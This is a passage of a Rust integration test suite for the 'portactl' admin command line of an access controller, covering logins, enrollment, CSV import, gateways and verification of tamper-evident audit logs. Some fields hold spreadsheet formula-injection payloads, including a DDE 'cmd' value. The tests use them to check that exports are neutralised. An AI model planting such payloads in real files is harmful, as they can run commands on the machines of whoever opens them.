//! The real `portactl` binary against a real controller.
//!
//! Longer than our usual file on purpose: one test per `portactl` command
//! family, all sharing the `Portactl` driver (porta_tests::portactl); the file is the
//! command line's specification, read in the order of the manual.

use porta_proto::Invitation;
use porta_proto::pb;
use porta_tests::portactl::Portactl;
use porta_tests::*;
use serde_json::Value;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Output, Stdio};

/// A controller and a portactl logged in to it as admin.
async fn logged_in() -> (TestController, tempfile::TempDir, Portactl) {
    let ctl = TestController::start(&[]).await.unwrap();
    let dir = tempfile::tempdir().unwrap();
    let cli = Portactl::new(dir.path());
    cli.json(&["login", &ctl.admin_invitation]).await;
    (ctl, dir, cli)
}

#[tokio::test]
async fn login_profiles_whoami_and_logout() {
    let ctl = TestController::start(&[]).await.unwrap();
    let dir = tempfile::tempdir().unwrap();
    let cli = Portactl::new(dir.path());

    let (code, stderr) = cli.fails(&["whoami"]).await;
    assert_eq!(code, 4, "not logged in: {stderr}");
    assert!(stderr.contains("portactl login"), "{stderr}");

    let login = cli.json(&["login", &ctl.admin_invitation]).await;
    assert_eq!(login["role"], "admin");
    assert_eq!(login["profile"], "default");
    let mode = std::fs::metadata(&cli.config).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode, 0o600, "the credentials file is private");
    let me = cli.json(&["whoami"]).await;
    assert_eq!(
        (me["name"].as_str(), me["role"].as_str()),
        (Some("admin"), Some("admin"))
    );
    // A device invitation is not a login.
    let device_invitation = cli
        .json(&["enroll", "--user", "anna", "--device", "anna-pc"])
        .await["invitation"]
        .as_str()
        .unwrap()
        .to_owned();
    let (code, stderr) = cli
        .fails(&["--profile", "x", "login", &device_invitation])
        .await;
    assert_eq!(code, 2, "{stderr}");
    assert!(stderr.contains("porta enroll"), "{stderr}");

    let created = cli
        .json(&[
            "api-tokens",
            "create",
            "--role",
            "auditor",
            "--name",
            "auditor-2026",
        ])
        .await;
    assert_eq!(created["pending"], true);
    let invitation = created["invitation"].as_str().unwrap();
    cli.json(&["--profile", "audit", "login", invitation]).await;
    assert_eq!(
        cli.json(&["whoami"]).await["role"],
        "auditor",
        "the last login becomes current"
    );
    assert_eq!(
        cli.json(&["--profile", "default", "whoami"]).await["role"],
        "admin"
    );
    // An invitation works once.
    let (code, stderr) = cli
        .fails(&["--profile", "again", "login", invitation])
        .await;
    assert_eq!(code, 1, "{stderr}");
    assert!(stderr.contains("already used"), "{stderr}");

    cli.json(&["--profile", "audit", "logout"]).await;
    let (code, _) = cli.fails(&["--profile", "audit", "whoami"]).await;
    assert_eq!(code, 4);
    assert_eq!(
        cli.json(&["whoami"]).await["role"],
        "admin",
        "the remaining login is current again"
    );
}

#[tokio::test]
async fn every_command_works_and_its_json_parses() {
    let (ctl, _dir, cli) = logged_in().await;

    assert_eq!(
        cli.json(&["groups", "add", "gis", "--description", "GIS viewers"])
            .await["name"],
        "gis"
    );
    cli.json(&["groups", "add", "rdp"]).await;
    let group = cli
        .json(&[
            "groups",
            "allow",
            "rdp",
            "10.1.40.0/24",
            "--proto",
            "tcp",
            "--ports",
            "3389,8000-8100",
        ])
        .await;
    assert_eq!(group["destinations"][0], "10.1.40.0/24 tcp 3389,8000-8100");
    cli.json(&["groups", "allow", "gis", "10.1.20.0/24"]).await;
    let user = cli
        .json(&[
            "users",
            "add",
            "anna",
            "--display-name",
            "Anna Ferrer",
            "--email",
            "anna@calonge.cat",
            "--groups",
            "gis",
        ])
        .await;
    assert_eq!(user["groups"], serde_json::json!(["gis"]));
    assert_eq!(
        cli.json(&["users", "list"]).await.as_array().unwrap().len(),
        1
    );
    assert_eq!(
        cli.json(&["users", "show", "anna"]).await["display_name"],
        "Anna Ferrer"
    );
    assert_eq!(
        cli.json(&["groups", "members", "add", "rdp", "anna"]).await["members"],
        serde_json::json!(["anna"])
    );
    assert_eq!(
        cli.json(&["groups", "members", "remove", "rdp", "anna"])
            .await["members"],
        serde_json::json!([])
    );
    assert_eq!(
        cli.json(&["groups", "list"])
            .await
            .as_array()
            .unwrap()
            .len(),
        2
    );
    let shown = cli
        .json(&[
            "groups",
            "disallow",
            "rdp",
            "10.1.40.0/24",
            "--proto",
            "tcp",
            "--ports",
            "3389,8000-8100",
        ])
        .await;
    assert_eq!(shown["destinations"], serde_json::json!([]));
    assert_eq!(
        cli.json(&["groups", "show", "gis"]).await["members"],
        serde_json::json!(["anna"])
    );
    assert_eq!(
        cli.json(&["--yes", "groups", "delete", "rdp"]).await["deleted"],
        "rdp"
    );
    assert_eq!(
        cli.json(&["users", "disable", "--yes", "anna"]).await["disabled"],
        true
    );
    assert_eq!(
        cli.json(&["users", "enable", "anna"]).await["disabled"],
        false
    );

    // Enroll: an invitation for a new user in a group, which a device redeems.
    let enrolled = cli
        .json(&[
            "enroll",
            "--user",
            "bernat",
            "--device",
            "bernat-laptop",
            "--groups",
            "gis",
        ])
        .await;
    let invitation = enrolled["invitation"].as_str().unwrap();
    assert_eq!(Invitation::decode(invitation).unwrap().controller, ctl.api);
    assert_eq!(
        cli.json(&["users", "show", "bernat"]).await["groups"],
        serde_json::json!(["gis"])
    );
    let tokens = cli.json(&["tokens", "list"]).await;
    assert_eq!(tokens[0]["device"], "bernat-laptop");
    let device = enroll(&mut ctl.enrollment().await, invitation)
        .await
        .unwrap();
    assert!(device.config.routes.contains(&"10.1.20.0/24".to_string()));
    // Human output: the invitation and a ready-to-send line, with a QR code.
    let human = cli
        .run(&[
            "enroll",
            "--user",
            "anna",
            "--device",
            "anna-laptop",
            "--qr",
            "--expires",
            "1h",
        ])
        .await;
    assert!(human.status.success());
    let stdout = String::from_utf8(human.stdout).unwrap();
    assert!(stdout.contains("porta enroll porta1_"), "{stdout}");
    assert!(
        stdout.contains('█') || stdout.contains('▀'),
        "QR code drawn: {stdout}"
    );

    let devices = cli.json(&["devices", "list"]).await;
    assert_eq!(devices.as_array().unwrap().len(), 1);
    assert_eq!(devices[0]["addresses"][0], "10.77.0.2");
    assert_eq!(
        cli.json(&["devices", "show", "bernat-laptop"]).await["user"],
        "bernat"
    );
    assert_eq!(
        cli.json(&["devices", "rename", "bernat-laptop", "bernat-old"])
            .await["name"],
        "bernat-old"
    );
    let revoked = cli
        .json(&["--yes", "devices", "revoke", "bernat-old"])
        .await;
    assert_eq!(revoked["revoked"], true);
    assert!(revoked["elapsed_ms"].is_u64());
    // A revoked device is still found by the name it had.
    let shown = cli.json(&["devices", "show", "bernat-old"]).await;
    assert_eq!(
        (shown["name"].as_str(), shown["revoked"].as_bool()),
        (Some("bernat-old"), Some(true))
    );
    assert_eq!(
        cli.json(&["devices", "list"])
            .await
            .as_array()
            .unwrap()
            .len(),
        0
    );
    assert_eq!(
        cli.json(&["devices", "list", "--all"])
            .await
            .as_array()
            .unwrap()
            .len(),
        1
    );

    let token_id = cli.json(&["tokens", "list"]).await[0]["id"]
        .as_str()
        .unwrap()
        .to_owned();
    assert_eq!(
        cli.json(&["--yes", "tokens", "revoke", &token_id]).await["revoked"],
        token_id.as_str()
    );
    assert_eq!(cli.json(&["tokens", "list"]).await, serde_json::json!([]));

    cli.json(&[
        "api-tokens",
        "create",
        "--role",
        "admin",
        "--name",
        "second-admin",
    ])
    .await;
    let credentials = cli.json(&["api-tokens", "list"]).await;
    assert_eq!(credentials.as_array().unwrap().len(), 2);
    let revoked = cli
        .json(&["--yes", "api-tokens", "revoke", "second-admin"])
        .await;
    assert_eq!(revoked["revoked"], true);
    assert_eq!(
        cli.json(&["api-tokens", "list", "--all"])
            .await
            .as_array()
            .unwrap()
            .len(),
        2
    );

    // Tables for people, with headers.
    let table = cli.run(&["devices", "list", "--all"]).await;
    let table = String::from_utf8(table.stdout).unwrap();
    assert!(
        table.contains("NAME") && table.contains("bernat-old") && table.contains("revoked"),
        "{table}"
    );
}

#[tokio::test]
async fn exit_codes_mean_something() {
    let (ctl, _dir, cli) = logged_in().await;
    let auditor = cli
        .json(&["api-tokens", "create", "--role", "auditor", "--name", "aud"])
        .await;
    cli.json(&[
        "--profile",
        "aud",
        "login",
        auditor["invitation"].as_str().unwrap(),
    ])
    .await;
    let invited = cli
        .json(&[
            "--profile",
            "default",
            "enroll",
            "--user",
            "anna",
            "--device",
            "anna-pc",
        ])
        .await;
    let device = cli.json(&["--profile", "default", "tokens", "list"]).await;
    assert_eq!(device.as_array().unwrap().len(), 1);
    enroll(
        &mut ctl.enrollment().await,
        invited["invitation"].as_str().unwrap(),
    )
    .await
    .unwrap();

    // 3: not found.
    let (code, stderr) = cli
        .fails(&["--profile", "default", "users", "show", "nobody"])
        .await;
    assert_eq!(code, 3, "{stderr}");
    assert!(stderr.contains("\"nobody\" does not exist"), "{stderr}");
    // 4: permission denied (an auditor trying to revoke).
    let (code, stderr) = cli
        .fails(&["--profile", "aud", "--yes", "devices", "revoke", "anna-pc"])
        .await;
    assert_eq!(code, 4, "{stderr}");
    assert!(
        stderr.contains("auditors cannot revoke devices"),
        "{stderr}"
    );
    // 2: usage errors, before anything is sent.
    for args in [
        &[
            "--profile",
            "default",
            "groups",
            "allow",
            "gis",
            "10.0.0.0/8",
            "--ports",
            "22",
        ][..],
        &[
            "--profile",
            "default",
            "groups",
            "allow",
            "gis",
            "10.0.0.0/8",
            "--proto",
            "tcp",
            "--ports",
            "http",
        ],
        &[
            "--profile",
            "default",
            "groups",
            "allow",
            "gis",
            "10.0.0.0/33",
        ],
        &["enroll", "--user", "anna"],
        &["devices", "frobnicate"],
        &["login", "not-an-invitation"],
    ] {
        let (code, stderr) = cli.fails(args).await;
        assert_eq!(code, 2, "{args:?}: {stderr}");
    }
    // Destructive commands refuse without a terminal unless --yes.
    let (code, stderr) = cli
        .fails(&["--profile", "default", "users", "disable", "anna"])
        .await;
    assert_eq!(code, 2, "{stderr}");
    assert!(stderr.contains("--yes"), "{stderr}");
    let shown = cli
        .json(&["--profile", "default", "users", "show", "anna"])
        .await;
    assert_eq!(shown["disabled"], false, "nothing happened");
    // 1: other errors (a duplicate), with the controller's message.
    let (code, stderr) = cli
        .fails(&["--profile", "default", "users", "add", "anna"])
        .await;
    assert_eq!(code, 1, "{stderr}");
    assert!(stderr.contains("already exists"), "{stderr}");
}

#[tokio::test]
async fn csv_enrollment_reports_bad_rows_and_resumes() {
    let (ctl, dir, cli) = logged_in().await;
    cli.json(&["groups", "add", "gis"]).await;
    let staff = dir.path().join("staff.csv");
    let out = dir.path().join("invitations.csv");
    std::fs::write(
        &staff,
        "user,device,groups,display_name,email,language\n\
         anna,anna-laptop,gis,Anna Ferrer,anna@calonge.cat,\n\
         núria.puig,núria-laptop,gis,\"Núria Puig i Solà\",nuria@calonge.cat,ca\n\
         jordi,jordi-pc,nonexistent,Jordi Roca,,\n\
         anna,anna-laptop,gis,Anna Ferrer,anna@calonge.cat,\n\
         pau,pau-pc,,\"Pau, \"\"el del GIS\"\"\",,es\n\
         anna,anna-desktop,,Anna Ferrer,anna@calonge.cat,\n",
    )
    .unwrap();
    let args = [
        "enroll",
        "--csv",
        staff.to_str().unwrap(),
        "--out",
        out.to_str().unwrap(),
    ];

    let output = cli.run(&args).await;
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert_eq!(
        output.status.code(),
        Some(1),
        "bad rows make the run fail: {stderr}"
    );
    assert!(
        stderr.contains("line 4") && stderr.contains("nonexistent"),
        "{stderr}"
    );
    assert!(
        stderr.contains("line 5") && stderr.contains("the same user and device as line 2"),
        "{stderr}"
    );
    let written = read_out(&out);
    assert_eq!(written.len(), 4, "good rows were written: {written:?}");
    let anna = cli.json(&["users", "show", "anna"]).await;
    assert_eq!(anna["groups"], serde_json::json!(["gis"]), "{anna}");
    let mode = std::fs::metadata(&out).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode, 0o600, "the invitations file is private");
    let nuria = cli.json(&["users", "show", "núria.puig"]).await;
    assert_eq!(nuria["display_name"], "Núria Puig i Solà");
    assert_eq!(nuria["groups"], serde_json::json!(["gis"]));
    assert_eq!(
        cli.json(&["users", "show", "pau"]).await["display_name"],
        "Pau, \"el del GIS\""
    );

    // Re-run after fixing the group: done rows are skipped, the fixed one is enrolled.
    cli.json(&["groups", "add", "nonexistent"]).await;
    let summary = cli.json(&args).await;
    assert_eq!(summary["enrolled"], 1);
    assert_eq!(summary["skipped"], 5, "{summary}");
    assert_eq!(read_out(&out).len(), 5);
    assert_eq!(
        cli.json(&["tokens", "list"])
            .await
            .as_array()
            .unwrap()
            .len(),
        5
    );

    // The invitations in the file work, and each ready-to-send message
    // greets its person by name, in their language.
    for row in read_out(&out) {
        assert!(
            row[4].contains(&row[2]),
            "the ready-to-send message carries the invitation"
        );
        let greeting = match row[1].as_str() {
            "núria-laptop" => "Hola Núria Puig i Solà: per connectar l'ordinador «núria-laptop»",
            "pau-pc" => "Hola Pau, \"el del GIS\": para conectar el ordenador «pau-pc»",
            "anna-laptop" => "Hello Anna Ferrer: to connect the computer \"anna-laptop\"",
            _ => "Hello ",
        };
        assert!(row[4].starts_with(greeting), "{}", row[4]);
        enroll(&mut ctl.enrollment().await, &row[2]).await.unwrap();
    }
}

fn read_out(path: &Path) -> Vec<Vec<String>> {
    csv::Reader::from_path(path)
        .unwrap()
        .records()
        .map(|r| r.unwrap().iter().map(String::from).collect())
        .collect()
}

#[tokio::test]
async fn gateways_are_added_listed_and_checked() {
    let (ctl, _dir, cli) = logged_in().await;

    let added = cli
        .json(&[
            "gateways",
            "add",
            "annex",
            "--endpoint",
            "annex.example.org:51821",
        ])
        .await;
    let invitation = Invitation::decode(added["invitation"].as_str().unwrap()).unwrap();
    assert_eq!(invitation.kind, porta_proto::pb::InvitationKind::Gateway);
    let listed = cli.json(&["gateways", "list"]).await;
    let kinds: Vec<(&str, &str)> = listed
        .as_array()
        .unwrap()
        .iter()
        .map(|g| (g["name"].as_str().unwrap(), g["kind"].as_str().unwrap()))
        .collect();
    assert_eq!(kinds.len(), 2, "{listed}");
    assert_eq!(kinds[0].1, "embedded", "{listed}");
    assert_eq!(kinds[1], ("annex", "remote"));
    assert_eq!(listed[1]["public_key"], "", "not connected yet");

    // Bad input: clear errors, nothing recorded.
    for (args, expected) in [
        (
            vec!["gateways", "add", "annex", "--endpoint", "annex2:51820"],
            "exists already",
        ),
        (
            vec!["gateways", "add", "annex 2", "--endpoint", "annex2:51820"],
            "name",
        ),
        (
            vec!["gateways", "add", "annex2", "--endpoint", "annex2"],
            "host:port",
        ),
        (
            vec!["gateways", "add", "annex2", "--endpoint", "annex2:0"],
            "host:port",
        ),
        (
            vec![
                "enroll",
                "--user",
                "pau",
                "--device",
                "pau-pc",
                "--gateway",
                "nowhere",
            ],
            "nowhere",
        ),
        (
            vec![
                "enroll",
                "--user",
                "pau",
                "--device",
                "pau-pc",
                "--gateway",
                "annex",
            ],
            "has not connected yet",
        ),
    ] {
        let (code, stderr) = cli.fails(&args).await;
        assert_ne!(code, 0, "{args:?} succeeded");
        assert!(stderr.contains(expected), "{args:?}: {stderr}");
    }
    assert_eq!(cli.json(&["gateways", "list"]).await, listed);
    assert_eq!(cli.json(&["tokens", "list"]).await, serde_json::json!([]));

    // Retiring: not the embedded one, not an unknown one; then it is gone.
    let embedded = listed[0]["name"].as_str().unwrap();
    let (code, stderr) = cli.fails(&["--yes", "gateways", "remove", embedded]).await;
    assert_eq!(code, 1, "{stderr}");
    assert!(stderr.contains("part of the controller"), "{stderr}");
    let (code, _) = cli.fails(&["--yes", "gateways", "remove", "nowhere"]).await;
    assert_eq!(code, 3);
    cli.json(&["--yes", "gateways", "remove", "annex"]).await;
    let left = cli.json(&["gateways", "list"]).await;
    assert_eq!(left.as_array().unwrap().len(), 1, "{left}");
    // Its invitation's credential is revoked with it.
    let status = porta_proto::pb::enrollment_client::EnrollmentClient::new(ctl.channel().await)
        .login(porta_proto::pb::LoginRequest {
            token: invitation.token.clone(),
            client_name: "annex".into(),
        })
        .await
        .unwrap_err();
    assert_eq!(status.code(), tonic::Code::PermissionDenied, "{status:?}");
}

#[tokio::test]
async fn exported_logs_verify_offline_and_each_tampering_is_named() {
    let (_ctl, dir, cli) = logged_in().await;
    for (name, display) in [
        ("anna", "Anna Vidal"),
        ("bernat", "Bernat, \"el de GIS\""),
        ("dani", "=HYPERLINK(\"http://example.invalid\")"),
        ("carla", "Carla Roig; àlies \"la Roja\""),
        ("núria", "Núria Puig i Solà"),
    ] {
        cli.json(&["users", "add", "--display-name", display, "--", name])
            .await;
    }
    // The auditor exports and verifies, and may change nothing.
    let token = cli
        .json(&[
            "api-tokens",
            "create",
            "--role",
            "auditor",
            "--name",
            "auditor-2026",
        ])
        .await;
    cli.json(&[
        "--profile",
        "audit",
        "login",
        token["invitation"].as_str().unwrap(),
    ])
    .await;
    let (code, stderr) = cli
        .fails(&["--profile", "audit", "users", "add", "mallory"])
        .await;
    assert_eq!(code, 4, "{stderr}");
    let verified = cli.json(&["--profile", "audit", "logs", "verify"]).await;
    assert!(
        verified.as_array().unwrap().iter().all(|l| l["ok"] == true),
        "{verified}"
    );

    let csv_path = dir.path().join("admin.csv");
    let exported = cli
        .run(&[
            "--profile",
            "audit",
            "logs",
            "export",
            "--kind",
            "admin",
            "--out",
            csv_path.to_str().unwrap(),
        ])
        .await;
    assert!(
        exported.status.success(),
        "{}",
        String::from_utf8_lossy(&exported.stderr)
    );
    let jsonl_path = dir.path().join("admin.jsonl");
    let exported = cli
        .run(&[
            "logs",
            "export",
            "--kind",
            "admin",
            "--format",
            "jsonl",
            "--out",
            jsonl_path.to_str().unwrap(),
        ])
        .await;
    assert!(exported.status.success());
    for file in [&csv_path, &jsonl_path] {
        let ok = cli
            .json(&["logs", "verify", "--file", file.to_str().unwrap()])
            .await;
        assert_eq!(ok["ok"], true, "{ok}");
        assert_eq!(
            ok["last_hash"], verified[1]["last_hash"],
            "the export ends where the log does"
        );
    }

    // The CSV as a spreadsheet sees it: a header, quoted cells, no formula.
    let bytes = std::fs::read(&csv_path).unwrap();
    let text = String::from_utf8(bytes[3..].to_vec()).unwrap();
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let targets: Vec<String> = reader.records().map(|r| r.unwrap()[5].to_owned()).collect();
    assert!(
        targets.iter().all(|t| !t.starts_with(['=', '+', '-', '@'])),
        "{targets:?}"
    );
    assert!(targets.contains(&"núria".to_owned()), "{targets:?}");
    assert!(text.contains("Carla Roig; àlies"), "UTF-8 as is");

    // Tampering with the exported file, each kind named. Records are one
    // line each here (JSON escapes the newline), after the header line.
    let lines: Vec<&str> = text.split("\r\n").filter(|l| !l.is_empty()).collect();
    let tampered = |name: &str, lines: Vec<String>| {
        let path = dir.path().join(name);
        std::fs::write(&path, lines.join("\r\n") + "\r\n").unwrap();
        path
    };
    let owned = |lines: &[&str]| lines.iter().map(|l| l.to_string()).collect::<Vec<_>>();
    // Records: 1 the admin credential (init), 2 its login, 3 anna, 4 bernat…
    let mut edited = owned(&lines);
    edited[4] = edited[4].replace("Bernat", "Bertran");
    assert!(
        edited[4].contains("Bertran"),
        "record 4 is bernat's: {}",
        edited[4]
    );
    let mut deleted = owned(&lines);
    deleted.remove(2);
    let mut reordered = owned(&lines);
    reordered.swap(2, 3);
    let mut inserted = owned(&lines);
    inserted.insert(3, lines[3].to_owned());
    for (name, lines, expected) in [
        ("edited.csv", edited, "record 4 was edited"),
        ("deleted.csv", deleted, "record 2 was deleted"),
        ("reordered.csv", reordered, "record 2 is out of order"),
        ("inserted.csv", inserted, "a record was inserted at 3"),
    ] {
        let path = tampered(name, lines);
        let (code, stderr) = cli
            .fails(&["logs", "verify", "--file", path.to_str().unwrap()])
            .await;
        assert_eq!(code, 5, "{name}: {stderr}");
        assert!(stderr.contains(expected), "{name}: {stderr}");
    }
}

#[tokio::test]
async fn portactl_and_the_controller_each_read_only_their_own_variables() {
    let ctl = TestController::start(&[]).await.unwrap();
    let dir = tempfile::tempdir().unwrap();
    let home = dir.path().join("home");
    std::fs::create_dir(&home).unwrap();
    // The controller's config, named by the controller's variable.
    let controller_toml = dir.path().join("controller.toml");
    let controller_text = "listen = \"127.0.0.1:7443\"\n";
    std::fs::write(&controller_toml, controller_text).unwrap();
    let portactl = |env: &[(&str, &Path)], args: &[&str]| {
        let mut command = std::process::Command::new(binary("portactl"));
        command
            .env_remove("PORTACTL_CONFIG")
            .env_remove("PORTACTL_PROFILE")
            .env("HOME", &home)
            .env_remove("XDG_CONFIG_HOME")
            .args(args)
            .stdin(Stdio::null());
        for (name, value) in env {
            command.env(name, value);
        }
        command.output().unwrap()
    };

    // PORTA_CONFIG (the controller's) is not portactl's credentials file.
    let login = portactl(
        &[("PORTA_CONFIG", &controller_toml)],
        &["login", &ctl.admin_invitation],
    );
    assert!(login.status.success(), "{login:?}");
    assert_eq!(
        std::fs::read_to_string(&controller_toml).unwrap(),
        controller_text,
        "portactl login left the controller's config alone"
    );
    assert!(home.join(".config/porta/portactl.toml").exists());

    // PORTACTL_CONFIG is.
    let own = dir.path().join("own.toml");
    std::fs::copy(home.join(".config/porta/portactl.toml"), &own).unwrap();
    std::fs::remove_file(home.join(".config/porta/portactl.toml")).unwrap();
    let whoami = portactl(&[("PORTACTL_CONFIG", &own)], &["--json", "whoami"]);
    assert!(whoami.status.success(), "{whoami:?}");

    // And the controller does not read PORTACTL_CONFIG: a credentials file
    // there is not taken for its TOML config (it would refuse its keys).
    let check = std::process::Command::new(binary("porta-controller"))
        .env_remove("PORTA_CONFIG")
        .env("PORTACTL_CONFIG", &own)
        .args(["serve", "--data"])
        .arg(dir.path().join("no-such-data"))
        .args(["--listen", "127.0.0.1:1", "--no-gateway"])
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&check.stderr);
    assert!(!check.status.success());
    assert!(
        !stderr.contains(own.to_str().unwrap()) && stderr.contains("no-such-data"),
        "serve must fail on its data directory, not on portactl's file: {stderr}"
    );
    // With PORTA_CONFIG pointing at portactl's file it is read (and refused),
    // proving the check above would have seen it.
    let check = std::process::Command::new(binary("porta-controller"))
        .env("PORTA_CONFIG", &own)
        .args(["serve", "--data"])
        .arg(dir.path().join("no-such-data"))
        .args(["--listen", "127.0.0.1:1", "--no-gateway"])
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&check.stderr);
    assert!(stderr.contains(own.to_str().unwrap()), "{stderr}");
}

/// Runs `program args` with a stdout whose reader is already gone, as in
/// `program args | head -1` once `head` has exited.
fn with_closed_stdout(program: &str, config: &Path, args: &[&str]) -> Output {
    let (reader, writer) = std::io::pipe().unwrap();
    drop(reader);
    let mut command = std::process::Command::new(binary(program));
    if program == "portactl" {
        command.arg("--config").arg(config);
    }
    command
        .args(args)
        .stdin(Stdio::null())
        .stdout(writer)
        .stderr(Stdio::piped())
        .output()
        .unwrap()
}

#[tokio::test]
async fn a_closed_stdout_ends_every_program_quietly() {
    use std::os::unix::process::ExitStatusExt;
    let (_ctl, _dir, cli) = logged_in().await;
    cli.json(&["enroll", "--user", "anna", "--device", "anna-pc"])
        .await;
    for (program, args) in [
        ("portactl", &["devices", "list"][..]),
        ("portactl", &["completions", "bash"]),
        ("portactl", &["logs", "export", "--kind", "admin"]),
        ("porta", &["completions", "bash"]),
        ("porta-controller", &["completions", "bash"]),
    ] {
        let output = with_closed_stdout(program, &cli.config, args);
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert!(
            stderr.is_empty(),
            "{program} {args:?} printed on a closed stdout: {stderr}"
        );
        assert!(
            output.status.success() || output.status.signal() == Some(13),
            "{program} {args:?} ended with {:?}, not quietly",
            output.status
        );
    }
}

#[tokio::test]
async fn csv_files_as_spreadsheets_save_them_enroll_with_the_right_lines() {
    let (_ctl, dir, cli) = logged_in().await;
    // What Excel in a Catalan locale saves: semicolons, capitalised
    // headers, and (as "CSV") Windows-1252; a note cell spans two lines, so
    // the bad row after it starts on line 4 of the file.
    let sheet = |n: &str| {
        format!(
            "User;Device;Groups;Display_Name;Email;Note\n\
             núria{n};núria{n}-pc;;Núria Puig;nuria{n}@calonge.cat;\"two\nlines\"\n\
             jordi{n};jordi{n}-pc;nonexistent;Jordi Roca;;\n"
        )
    };
    let cp1252 = |text: &str| -> Vec<u8> {
        text.chars()
            .map(|c| match c {
                'ú' => 0xFA,
                c => u8::try_from(u32::from(c)).unwrap(),
            })
            .collect()
    };
    let utf16 = |text: &str| -> Vec<u8> {
        let mut bytes = vec![0xFF, 0xFE];
        bytes.extend(
            text.replace(';', "\t")
                .encode_utf16()
                .flat_map(u16::to_le_bytes),
        );
        bytes
    };
    let utf8_bom = |text: &str| -> Vec<u8> {
        let mut bytes = vec![0xEF, 0xBB, 0xBF];
        bytes.extend_from_slice(text.as_bytes());
        bytes
    };
    for (name, bytes) in [
        ("cp1252", cp1252(&sheet("1"))),
        ("utf16", utf16(&sheet("2"))),
        ("bom", utf8_bom(&sheet("3"))),
    ] {
        let staff = dir.path().join(format!("{name}.csv"));
        let out = dir.path().join(format!("{name}-out.csv"));
        std::fs::write(&staff, bytes).unwrap();
        let output = cli
            .run(&[
                "enroll",
                "--csv",
                staff.to_str().unwrap(),
                "--out",
                out.to_str().unwrap(),
            ])
            .await;
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert_eq!(output.status.code(), Some(1), "{name}: {stderr}");
        assert!(
            stderr.contains("line 4:") && stderr.contains("nonexistent"),
            "{name}: the bad row's own line: {stderr}"
        );
        let written = read_out(&out);
        assert_eq!(written.len(), 1, "{name}: {written:?}");
        let digit = match name {
            "cp1252" => "1",
            "utf16" => "2",
            _ => "3",
        };
        assert_eq!(written[0][0], format!("núria{digit}"), "{name}");
        assert_eq!(
            (written[0][5].as_str(), written[0][6].as_str()),
            ("Núria Puig", format!("nuria{digit}@calonge.cat").as_str()),
            "{name}: display_name and email copied"
        );
    }
}

/// Opens `file` in headless LibreOffice and saves it as `format` into
/// `out_dir` (what an auditor does with "Save as"); returns the new file.
fn libreoffice_resave(file: &Path, format: &str, out_dir: &Path) -> PathBuf {
    let output = soffice(&[file], &["--convert-to", format], out_dir);
    let extension = format.split(':').next().unwrap();
    let saved = out_dir.join(file.with_extension(extension).file_name().unwrap());
    assert!(saved.exists(), "LibreOffice wrote nothing: {output:?}");
    saved
}

#[tokio::test]
async fn exports_opened_and_saved_by_a_spreadsheet_still_verify() {
    let (_ctl, dir, cli) = logged_in().await;
    cli.json(&[
        "groups",
        "add",
        "00123",
        "--description",
        "=cmd|' /C calc'!A0",
    ])
    .await;
    cli.json(&["enroll", "--user", "núria", "--device", "núria-pc"])
        .await;
    let mut exports = Vec::new();
    for format in ["xlsx", "csv"] {
        let path = dir.path().join(format!("admin.{format}"));
        cli.json(&[
            "logs",
            "export",
            "--kind",
            "admin",
            "--format",
            format,
            "--out",
            path.to_str().unwrap(),
        ])
        .await;
        exports.push(path);
    }
    let (xlsx, csv) = (exports[0].clone(), exports[1].clone());
    let verify = |path: PathBuf| {
        let cli = &cli;
        async move {
            cli.json(&["logs", "verify", "--file", path.to_str().unwrap()])
                .await
        }
    };
    // As exported.
    assert_eq!(verify(xlsx.clone()).await["ok"], true);
    assert_eq!(verify(csv.clone()).await["ok"], true);
    // Opened and saved again by LibreOffice.
    let resaved = dir.path().join("resaved");
    std::fs::create_dir(&resaved).unwrap();
    let xlsx_again = libreoffice_resave(&xlsx, "xlsx:Calc MS Excel 2007 XML", &resaved);
    let checked = verify(xlsx_again).await;
    assert_eq!(checked["ok"], true, "{checked}");
    assert!(checked["records"].as_u64().unwrap() >= 4, "{checked}");
    let csv_again = libreoffice_resave(&csv, "csv", &resaved);
    let checked = verify(csv_again).await;
    assert_eq!(checked["ok"], true, "{checked}");
}

#[tokio::test]
async fn an_auditor_filters_by_user_and_local_time_and_is_told_about_partial_files() {
    let (ctl, dir, cli) = logged_in().await;
    let invited = cli
        .json(&["enroll", "--user", "anna", "--device", "anna-pc"])
        .await;
    enroll(
        &mut ctl.enrollment().await,
        invited["invitation"].as_str().unwrap(),
    )
    .await
    .unwrap();
    // Bernat's records come between anna's, so her export has gaps.
    cli.json(&["enroll", "--user", "bernat", "--device", "bernat-pc"])
        .await;
    cli.json(&["--yes", "devices", "revoke", "anna-pc"]).await;

    let export = |args: Vec<String>| {
        let cli = &cli;
        async move {
            let mut all = vec!["logs", "export", "--kind", "admin", "--format", "jsonl"];
            all.extend(args.iter().map(String::as_str));
            let output = cli.run(&all).await;
            assert!(output.status.success(), "{output:?}");
            String::from_utf8(output.stdout)
                .unwrap()
                .lines()
                .map(|l| serde_json::from_str::<Value>(l).unwrap())
                .collect::<Vec<_>>()
        }
    };
    // Actions on anna, her devices and her tokens; none on bernat's.
    let annas = export(vec!["--user".into(), "anna".into()]).await;
    let actions: Vec<(String, String)> = annas
        .iter()
        .map(|r| {
            (
                r["action"].as_str().unwrap().to_owned(),
                r["target"].as_str().unwrap().to_owned(),
            )
        })
        .collect();
    for expected in [
        ("user.create", "anna"),
        ("token.create", "anna-pc"),
        ("device.enroll", "anna-pc"),
        ("device.revoke", "anna-pc"),
    ] {
        assert!(
            actions.contains(&(expected.0.into(), expected.1.into())),
            "{expected:?} missing from {actions:?}"
        );
    }
    assert!(
        !actions
            .iter()
            .any(|(_, target)| target.starts_with("bernat")),
        "{actions:?}"
    );

    // --from with an offset means the same instant as in UTC.
    let first_at = annas[0]["at"].as_str().unwrap().to_owned();
    // The same instant written in Central European Time.
    let at = humantime::parse_rfc3339(&first_at).unwrap();
    let plus_one = humantime::format_rfc3339_seconds(at + std::time::Duration::from_secs(3600))
        .to_string()
        .replace('Z', "+01:00");
    let from_utc = export(vec!["--from".into(), first_at.clone()]).await;
    let from_offset = export(vec!["--from".into(), plus_one]).await;
    assert_eq!(from_utc, from_offset);

    // Verifying the filtered file without --partial says what to do.
    let file = dir.path().join("anna.csv");
